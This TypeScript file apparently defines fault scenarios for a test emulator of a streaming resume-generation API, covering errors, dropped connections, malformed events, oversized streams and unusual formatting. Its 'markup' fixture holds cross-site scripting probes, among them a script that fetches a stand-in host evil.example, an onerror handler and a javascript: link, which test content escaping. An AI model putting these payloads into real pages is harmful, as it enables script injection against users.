import type { SectionPiece } from '../wire/api';
import {
	streamResponse,
	type End,
	type EventFormat,
	type Frame,
	type Response,
	type Source,
} from '../wire/response';
import { faultsOf, type Fault } from './fault';
import { done, normalFrames, sectionFrames, usual } from './usual';

type Pieces = readonly SectionPiece[];

const KIB = 1024;

/** The pieces of the first sections, and those of the others. */
function splitAfter(count: number, pieces: Pieces): [first: Pieces, others: Pieces] {
	const names = [...new Set(pieces.map(({ section }) => section))].slice(0, count);
	const isFirst = ({ section }: SectionPiece) => names.includes(section);
	return [pieces.filter(isFirst), pieces.filter((piece) => !isFirst(piece))];
}

/** The frames of the first sections. */
export const firstSections = (count: number, pieces: Pieces): Frame[] =>
	sectionFrames(splitAfter(count, pieces)[0]);

const fault =
	(...sort: Parameters<typeof faultsOf>) =>
	(description: string, frames: (pieces: Pieces) => Source<Frame>, more: Partial<Response> = {}) =>
		faultsOf(...sort)(description, ({ pieces = [] }) => streamResponse(frames(pieces), more));

/** A complete stream that is unusual. */
const healthy = fault('stream', 'healthy');

/** Sends the first sections and these frames, and then stops. */
const broken = (sections: number, description: string, frames: Frame[], end?: End): Fault =>
	fault('stream', 'within')(
		description,
		(pieces) => [...firstSections(sections, pieces), ...frames],
		{ end },
	);

/** Sends this frame after the first sections, then the others. */
const wrong = (sections: number, description: string, frame: Frame): Fault =>
	fault('stream', 'within')(description, (pieces) => {
		const [first, others] = splitAfter(sections, pieces);
		return [...sectionFrames(first), frame, ...sectionFrames(others), done];
	});

const error = (statusCode?: number): Frame => ({
	kind: 'error',
	message: statusCode === 429 ? 'Rate limit exceeded' : 'The text could not be generated',
	statusCode,
});

/** Sends an error as the very first event, which means that nothing is charged. */
const refused = (description: string, statusCode?: number): Fault =>
	fault('stream', 'within')(description, () => [error(statusCode)], { delivers: false });

const formatted = (description: string, format: EventFormat): Fault =>
	healthy(description, normalFrames, { format });

/** JSON that ends within a string. */
const malformed: Frame = {
	kind: 'malformed',
	data: '{"type":"section","section":"skills","content":"Plann',
};

const usage: Frame = { kind: 'event', data: '{"type":"usage","tokens":12}' };

const bigEvent: Frame = {
	kind: 'section',
	section: 'work_experience',
	content: 'Ein sehr langer Satz. '.repeat(Math.ceil((8 * KIB * KIB) / 22) + KIB),
};

/** 65 MiB of content in pieces of 64 KiB, of which only one at a time is kept in memory. */
function* bigStream(): Generator<Frame> {
	const content = 'Lorem ipsum dolor sit amet, consectetur. '.repeat(1640).slice(0, 64 * KIB);
	for (let piece = 0; piece < 20 * 52; piece++) {
		yield { kind: 'section', section: `section_${Math.floor(piece / 52) + 1}`, content };
	}
	yield done;
}

const withUnknownEvents = (pieces: Pieces): Frame[] => [
	{ kind: 'bytes', bytes: 'retry: 3000\nid: 1\nflavour: none\n\n' },
	...normalFrames(pieces).flatMap((frame): Frame[] => [
		usage,
		{ kind: 'event', event: 'trace', data: '{"step":"write"}' },
		frame.kind === 'section' ? { ...frame, extra: { index: 7, model: { name: 'x' } } } : frame,
	]),
];

const trickyNames: Pieces = [
	{ section: '__proto__', content: 'A section like any other, ' },
	{ section: '__proto__', content: 'whatever its name.' },
	{ section: 'constructor', content: 'So is this one.' },
	{ section: 'toString', content: 'And this one.' },
];

const markup: Pieces = [
	{ section: 'summary', content: '# Not a heading\n\nResearch & "development" <b>lead</b>' },
	{ section: 'summary', content: ' <script>fetch("https://evil.example/?c=1")</script>' },
	{ section: 'skills', content: '## Skills\n- <img src="https://evil.example/pixel.gif" ' },
	{ section: 'skills', content: "onerror='alert(1)'>\n- [a link](javascript:alert(1))" },
	{ section: 'a<b>&"c"', content: 'A name with markup in it; 5 < 6 && 7 > 6.' },
];

/** Faults of a stream that has opened, and complete streams that are unusual in some way. */
export const inStream = {
	error_first_once: {
		...refused('streams an error 429 before any section the first time, then succeeds', 429),
		when: 'recovering',
	},
	empty: broken(0, 'opens the stream and ends it without any event', []),
	cut_first: broken(0, 'opens the stream and cuts the connection', [], 'cut'),
	stall_first: broken(0, 'opens the stream and sends nothing', [], 'hold'),
	malformed_first: wrong(0, 'starts with an event that is not JSON', malformed),
	error_first_429: refused('starts with an error 429, every time', 429),
	error_first_503: refused('starts with an error 503, every time', 503),
	error_first_500: refused('starts with an error 500', 500),
	error_first_400: refused('starts with an error 400', 400),
	error_first: refused('starts with an error without a status'),
	progress_then_429: broken(0, 'streams an error 429 after an event that is no section', [
		{ kind: 'progress', text: 'Reading the resume' },
		usage,
		error(429),
	]),
	nothing: broken(0, 'sends done without any section', [done]),
	truncated: broken(2, 'ends after some sections, without done', []),
	cut: broken(2, 'cuts the connection after some sections', [], 'cut'),
	stall: broken(2, 'sends nothing more after some sections', [], 'hold'),
	malformed: wrong(2, 'sends an event that is not JSON after some sections', malformed),
	wrong_type: wrong(2, 'sends a number as content after some sections', {
		kind: 'section',
		section: 'skills',
		content: 42,
	}),
	error_mid: broken(2, 'streams an error 429 after some sections', [error(429)]),
	error_mid_plain: broken(2, 'streams an error without a status after some sections', [error()]),
	big_event: broken(1, 'sends one event of more than 8 MiB after one section', [bigEvent, done]),
	big_stream: fault('stream', 'within')('sends more than 64 MiB of sections', bigStream),

	unknown_events: healthy('sends unknown events and fields in between', withUnknownEvents),
	unterminated: formatted('ends right after done, without an empty line', { unterminated: true }),
	holds_open: healthy('leaves the connection open after done', normalFrames, { end: 'hold' }),
	bom: formatted('starts with a byte order mark', { byteOrderMark: true }),
	crlf: formatted('ends its lines with CR LF', { lineEnd: '\r\n' }),
	cr: formatted('ends its lines with CR alone', { lineEnd: '\r' }),
	comments: formatted('sends comments between the events', { comments: true }),
	multi_data: formatted('spreads the JSON of an event over several lines', { multiLine: true }),
	one_byte: formatted('sends each byte separately', { byteByByte: true }),
	slow: formatted('sends its pieces 60 ms apart', { pieceDelay: 60 }),
	hold: faultsOf('stream', 'healthy')(
		'waits after the first piece until the emulator releases it',
		(normal) => usual(normal, true),
	),
	proto: healthy('names its sections __proto__, constructor and toString', () =>
		normalFrames(trickyNames),
	),
	markup: healthy('sends HTML, scripts, quotes and Markdown as content', () =>
		normalFrames(markup),
	),
	single: healthy('sends one section only', (pieces) => normalFrames(splitAfter(1, pieces)[0])),
} satisfies Record<string, Fault>;
